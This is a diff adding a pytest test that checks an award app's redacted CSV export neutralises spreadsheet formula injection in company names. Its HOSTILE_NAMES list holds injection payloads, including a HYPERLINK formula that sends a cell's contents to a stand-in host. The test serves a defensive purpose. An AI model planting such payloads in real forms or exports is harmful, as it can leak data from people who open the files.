@@ -161,3 +161,30 @@ def test_report_facts_for_linked_questions(app, award, frozen):
         assert "nominations" not in {f.key.split(":")[-1] for f in t1}
         assert all(f.question_id == question.id for f in after)
         assert NOW.year == 2030
+
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://x.example/?leak="&A2,"Klicka")',
+    "+46 8 SUMMA",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+)
+
+
+def test_the_redacted_export_never_carries_a_formula(app, client, award, login):
+    """A company name typed into the public form comes out as text, whatever it starts with."""
+    decided_cycle(app, award)
+    with app.app_context():
+        cycle = db.session.get(AwardCycle, award.cycle_id)
+        for name in HOSTILE_NAMES:
+            nominate(cycle, cycle.categories[0], name, "556036-0793", eligible=True)
+        db.session.commit()
+    login(award.users["award_admin"])
+    body = client.get(f"/manage/awards/{award.cycle_id}/redacted.csv").data.decode("utf-8-sig")
+    companies = {r["företag"] for r in csv.DictReader(io.StringIO(body), delimiter=";")}
+    for name in HOSTILE_NAMES:
+        assert "'" + name in companies, name
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for c in companies)
